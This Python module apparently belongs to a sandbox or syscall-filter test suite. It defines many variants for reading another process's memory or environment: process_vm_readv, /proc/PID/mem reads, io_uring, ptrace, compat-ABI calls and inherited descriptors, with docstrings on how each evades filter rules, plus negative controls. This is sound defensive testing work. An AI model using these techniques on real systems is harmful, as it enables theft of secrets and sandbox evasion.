"""Read the memory of another process of the same user: a secret that it alone has."""

from attacks import neighbour
from attacks.consts import (
    NULL,
    O_DIRECTORY,
    O_PATH,
    O_RDONLY,
    PTRACE_INTERRUPT,
    PTRACE_PEEKTEXT,
    PTRACE_SEIZE,
    PTRACE_TRACEME,
    WALL,
    Named,
)
from attacks.effects import Effect, EffectKind, Object, ObjectKind
from attacks.family import Assumption, Family, Need, Technique
from attacks.kernel import Kernel
from attacks.neighbour import SECRET_SIZE, SEEK_SET
from attacks.recorder import Buffer, Result
from attacks.ring import Ring

PTRACE_PEEKDATA = Named(2, "PTRACE_PEEKDATA")
IOCB_CMD_PREAD = Named(0, "IOCB_CMD_PREAD")
INHERITED = Assumption.INHERITED_DESCRIPTOR
PROGRAM = Object(ObjectKind.PROBE, "prog", 0o755)

FAMILY = Family(
    "read-process-memory",
    title="Read another process's memory",
    effect=lambda _: Effect(EffectKind.LEARNED),
    has_target=False,
    group="processes",
    attack_technique="T1003.007",
    unrecorded={
        "prlimit(RLIMIT_CORE) and kill(SIGSEGV), then read the core file": (
            "the hard limit of processes here leaves no room for a core file"
        ),
        "open /proc/PID/map_files/...": (
            "needs CAP_CHECKPOINT_RESTORE in the initial user namespace"
        ),
        "kcmp(KCMP_FILE)": "tells an order of kernel objects, and no contents",
        "read /proc/PID/maps or auxv": "tells where memory is, not what is in it",
    },
)


# Calls made for it


@FAMILY.variant(Technique.BASELINE)
def process_vm_readv(k: Kernel) -> None:
    """The call that the author of the policy has in mind."""
    local, remote = _local(k), neighbour.iovec(k, neighbour.secret(k), SECRET_SIZE)
    k.process_vm_readv(neighbour.pid(k), local, 1, remote, 1, 0).decisive()


@FAMILY.variant(Technique.COMPAT_ABI)
def process_vm_readv_i386(k: Kernel) -> None:
    """The 32-bit table has another number and takes smaller vectors."""
    local = neighbour.iovec32(k, _buffer(k), SECRET_SIZE)
    remote = neighbour.iovec32(k, neighbour.secret(k), SECRET_SIZE)
    k.i386.process_vm_readv(neighbour.pid(k), local, 1, remote, 1, 0).decisive()


# The memory as a file


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_pread(k: Kernel) -> None:
    """A file of procfs holds the memory; only open and pread64 are called."""
    memory = neighbour.memory(k, O_RDONLY)
    k.pread64(memory, _buffer(k), SECRET_SIZE, neighbour.secret(k)).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_read(k: Kernel) -> None:
    """Lseek puts the address where no argument of read shows it."""
    memory = neighbour.memory(k, O_RDONLY)
    k.lseek(memory, neighbour.secret(k), SEEK_SET)
    k.read(memory, _buffer(k), SECRET_SIZE).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_readv(k: Kernel) -> None:
    """The vector form of read."""
    memory = neighbour.memory(k, O_RDONLY)
    k.lseek(memory, neighbour.secret(k), SEEK_SET)
    k.readv(memory, _local(k), 1).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_preadv(k: Kernel) -> None:
    """The vector form of pread64."""
    memory = neighbour.memory(k, O_RDONLY)
    k.preadv(memory, _local(k), 1, neighbour.secret(k)).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_preadv2(k: Kernel) -> None:
    """The newest call of the read family."""
    memory = neighbour.memory(k, O_RDONLY)
    k.preadv2(memory, _local(k), 1, neighbour.secret(k), 0, 0).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_task_mem(k: Kernel) -> None:
    """Each thread's directory has the file again, under a path that ends the same way only."""
    memory = k.open(neighbour.task_path(k, "mem"), O_RDONLY)
    k.pread64(memory, _buffer(k), SECRET_SIZE, neighbour.secret(k)).decisive()


@FAMILY.variant(Technique.FD_RELATIVE)
def proc_mem_dirfd(k: Kernel) -> None:
    """Opened relative to the victim's directory, the file's path is no more than "mem"."""
    directory = k.open(neighbour.path(k, ""), O_PATH | O_DIRECTORY)
    memory = k.openat(directory, k.text("mem"), O_RDONLY)
    k.pread64(memory, _buffer(k), SECRET_SIZE, neighbour.secret(k)).decisive()


@FAMILY.variant(Technique.COMPAT_ABI)
def proc_mem_pread_i386(k: Kernel) -> None:
    """The 32-bit table splits the offset, so rules on the arguments do not fit either."""
    memory = neighbour.memory(k.i386, O_RDONLY)
    k.i386.raw("pread64", memory, _buffer(k), SECRET_SIZE, neighbour.secret(k), 0).decisive()


@FAMILY.variant(Technique.DESCRIPTOR_REUSE, assumption=INHERITED)
def inherited_memory(k: Kernel) -> None:
    """The file was opened before the filter, and reading it looks like reading any other."""
    memory = neighbour.inherited_memory(k, O_RDONLY)
    k.pread64(memory, _buffer(k), SECRET_SIZE, neighbour.secret(k)).decisive()


@FAMILY.variant(Technique.DESCRIPTOR_REUSE, assumption=INHERITED)
def inherited_directory(k: Kernel) -> None:
    """The victim's directory was opened before the filter: no path names a process."""
    directory = k.setup.open(neighbour.path(k.setup, ""), O_PATH | O_DIRECTORY)
    memory = k.openat(directory, k.text("mem"), O_RDONLY)
    k.pread64(memory, _buffer(k), SECRET_SIZE, neighbour.secret(k)).decisive()


# Through a ring


@FAMILY.variant(Technique.ASYNC_KERNEL)
def io_uring_read(k: Kernel) -> None:
    """A ring reads the file, though asynchronous reads by io_submit are refused there."""
    memory = neighbour.memory(k, O_RDONLY)
    _ring_read(k, k.ring(), memory)


@FAMILY.variant(Technique.ASYNC_KERNEL)
def io_uring_open_read(k: Kernel) -> None:
    """One ring opens the file, another reads it: open and read are not called."""
    memory = neighbour.memory_by_ring(k, k.ring(), O_RDONLY)
    _ring_read(k, k.ring(), memory)


@FAMILY.variant(Technique.DESCRIPTOR_REUSE, assumption=Assumption.INHERITED_RING)
def io_uring_inherited_open_read(k: Kernel) -> None:
    """Rings from before the filter: only io_uring_enter is left for the filter to see."""
    opener, reader = k.setup.ring().by(k), k.setup.ring().by(k)
    _ring_read(k, reader, neighbour.memory_by_ring(k, opener, O_RDONLY))


@FAMILY.variant(
    Technique.DESCRIPTOR_REUSE, assumption=Assumption.INHERITED_RING, needs=(Need.SQPOLL,)
)
def io_uring_inherited_sqpoll_read(k: Kernel) -> None:
    """With a ring and the file from before the filter, the attack makes no call at all."""
    memory = neighbour.inherited_memory(k, O_RDONLY)
    ring = k.setup.ring(sqpoll=True)
    ring.nop()
    _ring_read(k, ring.by(k).stores_only(), memory)


@FAMILY.variant(Technique.DEPUTY_PROCESS, assumption=Assumption.UNFILTERED_NEIGHBOUR)
def stolen_ring_registered_buffer(k: Kernel) -> None:
    """The victim registered its memory with a ring: who has the ring can write it to a pipe."""
    ring = neighbour.stolen_ring_with_buffer(k, neighbour.secret(k))
    reader, writer = neighbour.pipe(k)
    ring.submit("WRITE_FIXED", fd=writer, addr=neighbour.secret(k), length=SECRET_SIZE).decisive()
    k.read(reader, _buffer(k), SECRET_SIZE)


# As a debugger


@FAMILY.variant(Technique.MULTIPLEXER)
def ptrace_peek(k: Kernel) -> None:
    """A debugger reads a word at a time, by one request of many of a call."""
    neighbour.stop_by_ptrace(k)
    _peek(k, k, PTRACE_PEEKDATA, 8)


@FAMILY.variant(Technique.MULTIPLEXER)
def ptrace_seize_peek_text(k: Kernel) -> None:
    """Other requests for the same: rules that list PTRACE_ATTACH and PTRACE_PEEKDATA miss it."""
    k.ptrace(PTRACE_SEIZE, neighbour.pid(k), NULL, NULL)
    k.ptrace(PTRACE_INTERRUPT, neighbour.pid(k), NULL, NULL)
    k.wait4(neighbour.pid(k), NULL, WALL, NULL)
    _peek(k, k, PTRACE_PEEKTEXT, 8)


@FAMILY.variant(Technique.COMPAT_ABI)
def ptrace_peek_i386(k: Kernel) -> None:
    """The 32-bit table has another number, and half as much in a word."""
    neighbour.stop_by_ptrace(k.i386)
    _peek(k, k.i386, PTRACE_PEEKDATA, 4)


# Parts of the memory that have files of their own


@FAMILY.variant(Technique.PROC_INTERFACE, objects=(PROGRAM,))
def proc_environment(k: Kernel) -> None:
    """What a program got as its environment, often passwords, is in a file of its own."""
    pid = _program_with(k, arguments=False)
    file = k.open(k.proc_pid(pid, "/environ"), O_RDONLY)
    k.read(file, k.buffer(64), 64).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE, objects=(PROGRAM,))
def proc_command_line(k: Kernel) -> None:
    """What a program got as its arguments is read from its memory for anybody who asks."""
    pid = _program_with(k, arguments=True)
    file = k.open(k.proc_pid(pid, "/cmdline"), O_RDONLY)
    k.read(file, k.buffer(64), 64).decisive()


# Controls that must not read


@FAMILY.variant(Technique.ASYNC_KERNEL, negative=True)
def aio_read(k: Kernel) -> None:
    """The file does not take part in asynchronous reads by io_submit."""
    memory = neighbour.memory(k, O_RDONLY)
    request = neighbour.aio(k, IOCB_CMD_PREAD, memory, _buffer(k), SECRET_SIZE, neighbour.secret(k))
    request.decisive().may_fail()


@FAMILY.variant(Technique.PROC_INTERFACE, negative=True)
def sendfile(k: Kernel) -> None:
    """The file cannot be sent to another one."""
    memory = neighbour.memory(k, O_RDONLY)
    copy = k.memfd_create(k.text("copy"), 0)
    offset = k.struct("Q", neighbour.secret(k), name="offset")
    k.sendfile(copy, memory, offset, SECRET_SIZE).decisive().may_fail()
    k.pread64(copy, _buffer(k), SECRET_SIZE, 0)


@FAMILY.variant(Technique.PROC_INTERFACE, negative=True)
def splice(k: Kernel) -> None:
    """The file cannot be spliced into a pipe."""
    memory = neighbour.memory(k, O_RDONLY)
    _, writer = neighbour.pipe(k)
    offset = k.struct("Q", neighbour.secret(k), name="offset")
    k.splice(memory, offset, writer, NULL, SECRET_SIZE, 0).decisive().may_fail()


@FAMILY.variant(Technique.PROC_INTERFACE, negative=True)
def own_memory(k: Kernel) -> None:
    """The same address in the subject's own memory holds zeros."""
    k.victim.getpid()
    memory = k.open(k.proc("self/mem"), O_RDONLY)
    k.pread64(memory, _buffer(k), SECRET_SIZE, neighbour.secret(k)).decisive()


def _buffer(k: Kernel) -> Buffer:
    return k.buffer(SECRET_SIZE, name="found")


def _local(k: Kernel) -> Buffer:
    return neighbour.iovec(k, _buffer(k), SECRET_SIZE)


def _ring_read(k: Kernel, ring: Ring, memory: Result) -> None:
    secret = neighbour.secret(k)
    ring.submit("READ", fd=memory, addr=_buffer(k), length=SECRET_SIZE, off=secret).decisive()


def _peek(k: Kernel, by: Kernel, request: int, width: int) -> None:
    """Word for word: the call itself stores what it finds; the last word is decisive."""
    found = _buffer(k)
    for offset in range(0, SECRET_SIZE, width):
        address = k.add(neighbour.secret(k), offset)
        peeked = by.ptrace(request, neighbour.pid(k), address, found.at(offset))
        if offset + width == SECRET_SIZE:
            peeked.decisive()


def _program_with(k: Kernel, *, arguments: bool) -> Result:
    """A child of the victim runs a program that has the victim's secret on its stack.

    The victim traces it to see the end of the execve; for a moment before that the new memory has
    nothing on its stack (fs/exec.c, begin_new_exec).
    """
    plain = k.struct("QQ", k.text("program"), 0, name="plain")
    telling = k.victim.struct("QQ", neighbour.secret(k), 0, name="telling")
    child = k.victim.fork()
    with k.victim.child(child):
        first, second = (telling, plain) if arguments else (plain, telling)
        k.victim.ptrace(PTRACE_TRACEME, 0, NULL, NULL)
        k.victim.execve(k.text("prog"), first, second)
    k.victim.wait4(child, NULL, WALL, NULL)
    return child
